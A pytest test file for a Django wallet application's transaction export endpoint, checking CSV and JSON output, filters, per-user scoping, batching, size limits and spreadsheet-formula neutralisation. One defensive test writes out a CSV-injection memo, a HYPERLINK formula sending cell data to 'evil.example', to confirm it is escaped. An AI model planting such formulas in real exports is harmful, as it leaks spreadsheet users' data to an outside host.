"""Taking everything away: the list's rows and filters as one file, one's own only, and harmless in a spreadsheet."""

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from rest_framework.test import APIClient

import transactions.queries.export as exporting
from tests.factories.accounts import make_api_client, make_user, sign_in_browser
from tests.factories.pages import STRANGER, Past, credit, make_past
from transactions.models import Transaction

pytestmark = pytest.mark.django_db(databases="__all__")

URL = "/api/v1/transactions/export"
HEADER = (
    "id,created_at,updated_at,type,direction,status,asset,amount,fee_asset,fee,"
    "wallet_id,to,memo,network,txid,confirmations,failure"
)


@pytest.fixture
def past(settings: Any, tmp_path: Path) -> Past:
    return make_past(settings, tmp_path, now=timezone.now())


@pytest.fixture
def client(past: Past) -> APIClient:
    return make_api_client(past.owner)


def text_of(answer: Any) -> str:
    assert answer.status_code == 200
    assert answer.streaming
    return b"".join(answer.streaming_content).decode()


def rows_of(answer: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text_of(answer), newline="")))


def listed(client: APIClient, **filters: str) -> Any:
    return client.get("/api/v1/transactions", filters).json()["results"]


def test_a_csv_file_has_a_header_and_exact_amounts_newest_first(past: Past, client: APIClient) -> None:
    answer = client.get(URL, {"format": "csv"})
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    today = f"{timezone.now():%Y-%m-%d}"
    assert answer.headers["Content-Disposition"] == f'attachment; filename="transactions-{today}.csv"'
    text = text_of(answer)
    assert text.splitlines()[0] == HEADER
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["id"] for row in rows] == [each["id"] for each in listed(client)]
    by_id = {row["id"]: row for row in rows}
    send = by_id[past.send.pk]
    assert {name: send[name] for name in ("type", "direction", "status", "asset", "amount", "fee", "to", "memo")} == {
        "type": "send",
        "direction": "out",
        "status": "balance_reserved",
        "asset": "BTC",
        "amount": "0.1",
        "fee": "",
        "to": STRANGER,
        "memo": "Rent",
    }
    assert (send["fee_asset"], send["network"], send["confirmations"]) == ("BTC", "bitcoin", "0")
    transfer = by_id[past.transfer.pk]
    assert (transfer["fee"], transfer["network"], transfer["txid"]) == ("0", "", "")
    assert by_id[past.arriving.pk]["txid"] == past.arriving.txid
    assert "12.34567890123456789" in [row["amount"] for row in rows]


def test_a_json_file_is_an_array_of_the_lists_objects(past: Past, client: APIClient) -> None:
    answer = client.get(URL, {"format": "json"})
    assert answer.headers["Content-Type"] == "application/json"
    assert answer.headers["Content-Disposition"].endswith('.json"')
    found = json.loads(text_of(answer))
    assert found == listed(client)
    assert len(found) == 5


@pytest.mark.parametrize("form", ["csv", "json"])
def test_the_filters_are_those_of_the_list(past: Past, client: APIClient, form: str) -> None:
    def ids(**filters: str) -> list[str]:
        answer = client.get(URL, {"format": form, **filters})
        return [row["id"] for row in (rows_of(answer) if form == "csv" else json.loads(text_of(answer)))]

    assert ids(type="send") == [past.send.pk]
    assert ids(type="deposit", asset="BTC", status="blockchain_pending") == [past.arriving.pk]
    assert ids(q="lunch") == [past.transfer.pk]
    assert ids(**{"from": past.send.created_at.isoformat()}) == [past.send.pk]
    assert past.send.pk not in ids(to=past.send.created_at.isoformat())
    assert ids(q="nothing like it") == []


@pytest.mark.parametrize("form", ["csv", "json"])
def test_only_ones_own(past: Past, form: str) -> None:
    friend, nobody = make_api_client(past.friend), make_api_client()
    text = text_of(friend.get(URL, {"format": form}))
    assert past.transfer.pk in text
    assert past.send.pk not in text
    assert past.bitcoin.pk not in text  # whose wallet it came from is not the friend's to see
    empty = text_of(make_api_client(make_user()).get(URL, {"format": form}))
    assert empty == (f"{HEADER}\r\n" if form == "csv" else "[]")
    assert nobody.get(URL, {"format": form}).status_code == 401


@pytest.mark.parametrize("query", ["", "format=", "format=pdf", "format=CSV", "format=csv%00", "format=html"])
def test_another_format_is_refused(past: Past, client: APIClient, query: str) -> None:
    answer = client.get(f"{URL}?{query}")
    assert (answer.status_code, answer.json()["code"]) == (400, "invalid_input")
    assert list(answer.json()["errors"]) == ["format"]
    assert "csv" in answer.json()["errors"]["format"][0]
    assert answer.headers["Content-Type"].startswith("application/problem+json")


def test_a_filter_that_means_nothing_is_refused_before_anything_is_sent(past: Past, client: APIClient) -> None:
    answer = client.get(f"{URL}?format=csv&status=bogus")
    assert (answer.status_code, list(answer.json()["errors"])) == (400, ["status"])


@pytest.mark.parametrize("accept", ["text/csv", "application/json", "*/*"])
def test_the_format_is_named_in_the_address_and_not_by_accept(past: Past, client: APIClient, accept: str) -> None:
    assert len(rows_of(client.get(URL, {"format": "csv"}, headers={"Accept": accept}))) == 5


@pytest.mark.parametrize("start", [*"=+-@", *"＝＋－＠"])
def test_what_somebody_wrote_is_no_formula_in_a_spreadsheet(past: Past, client: APIClient, start: str) -> None:
    memo = f'{start}HYPERLINK("http://evil.example?x="&A1,"look, here")'
    body = {"type": "transfer", "wallet_id": past.bitcoin.pk, "asset": "BTC", "amount": "0.01", "memo": memo}
    made = client.post(
        "/api/v1/transactions", {**body, "to": past.friend.email}, format="json", headers={"Idempotency-Key": "k"}
    )
    assert made.status_code == 201
    for reader in (client, make_api_client(past.friend)):
        (row,) = rows_of(reader.get(URL, {"format": "csv", "q": made.json()["id"]}))
        assert (row["memo"], row["amount"]) == (f"'{memo}", "0.01")
    (same,) = json.loads(text_of(client.get(URL, {"format": "json", "q": made.json()["id"]})))
    assert same["memo"] == memo


@pytest.mark.parametrize("memo", ["\t=1+1", "\r=1+1", "\n=1+1"])
def test_white_space_does_not_hide_a_formula(past: Past, client: APIClient, memo: str) -> None:
    Transaction.objects.filter(pk=past.send.pk).update(memo=memo)
    (row,) = rows_of(client.get(URL, {"format": "csv", "type": "send"}))
    assert row["memo"] == f"'{memo}"


@pytest.mark.parametrize("form", ["csv", "json"])
@pytest.mark.parametrize("batch", [1, 2, 5, 6])
def test_batches_give_every_row_once(
    past: Past, client: APIClient, monkeypatch: pytest.MonkeyPatch, batch: int, form: str
) -> None:
    monkeypatch.setattr(exporting, "BATCH", batch)
    answer = client.get(URL, {"format": form})
    credit(past.bitcoin, minor=777, height=400, now=timezone.now())  # while it is being read
    found = rows_of(answer) if form == "csv" else json.loads(text_of(answer))
    ids = [row["id"] for row in found]
    assert len(ids) == len(set(ids))
    assert ids == sorted(ids, reverse=True)
    assert {past.send.pk, past.transfer.pk, past.arriving.pk} <= set(ids)


def test_a_batch_costs_two_queries(past: Past, client: APIClient, monkeypatch: pytest.MonkeyPatch) -> None:
    def count(batch: int) -> int:
        monkeypatch.setattr(exporting, "BATCH", batch)
        with CaptureQueriesContext(connection) as captured:
            assert len(rows_of(client.get(URL, {"format": "csv"}))) == 5
        return len(captured)

    assert count(3) - count(6) == 2


def test_too_much_for_one_file_is_refused_and_narrowing_by_time_helps(
    past: Past, client: APIClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exporting, "LARGEST_EXPORT", 4)
    for form in ("csv", "json"):
        answer = client.get(URL, {"format": form})
        assert (answer.status_code, answer.json()["code"]) == (422, "export_too_large")
        assert "time" in answer.json()["what_to_do"]
    (since,) = [each["created_at"] for each in listed(client)[3:4]]
    narrowed = client.get(URL, {"format": "csv", "from": since})
    assert len(rows_of(narrowed)) == 4
    browser = Client()
    sign_in_browser(browser, past.owner)
    assert browser.get("/activity/export.csv").status_code == 422


def test_the_activity_page_offers_what_it_shows(past: Past) -> None:
    browser = Client()
    sign_in_browser(browser, past.owner)
    shown = browser.get("/activity/?status=open&type=send&after=")
    assert shown.context["export_url"] == "/activity/exports/?status=open&type=send"
    assert 'href="/activity/exports/?status=open&amp;type=send"' in shown.content.decode()
    answer = browser.get("/activity/export.csv?status=open&type=send")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert [row["id"] for row in rows_of(answer)] == [past.send.pk]
    on_its_way = [
        each["id"] for each in listed(make_api_client(past.owner)) if each["status"] not in {"completed", "failed"}
    ]
    assert [row["id"] for row in rows_of(browser.get("/activity/export.csv?status=open"))] == on_its_way
    assert past.transfer.pk not in on_its_way
    stranger = Client().get("/activity/export.csv")
    assert (stranger.status_code, stranger.headers["Location"]) == (302, "/sign-in/?next=/activity/export.csv")


def test_the_document_names_both_forms() -> None:
    answer = Client().get("/api/v1/schema/", headers={"Accept": "application/vnd.oai.openapi+json"})
    call = json.loads(answer.content)["paths"][URL]["get"]
    content = call["responses"]["200"]["content"]
    assert content["text/csv"]["schema"] == {"type": "string"}
    assert content["application/json"]["schema"]["type"] == "array"
    assert "Problem" in json.dumps(call["responses"]["422"])
    (form,) = [each for each in call["parameters"] if each["name"] == "format"]
    assert (form["required"], form["schema"]["enum"]) == (True, ["csv", "json"])
